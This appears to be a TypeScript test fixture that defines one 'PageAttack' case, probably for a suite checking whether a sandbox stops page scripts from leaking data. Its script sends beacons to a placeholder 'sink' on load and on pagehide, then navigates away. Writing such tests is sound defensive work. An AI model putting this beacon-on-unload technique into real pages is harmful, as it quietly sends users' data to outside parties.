import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a beacon, also while the page is left",
  script: `
    navigator.sendBeacon(sink, "x");
    addEventListener("pagehide", () => navigator.sendBeacon(sink, "y"));
    location.href = "about:blank";
  `,
};
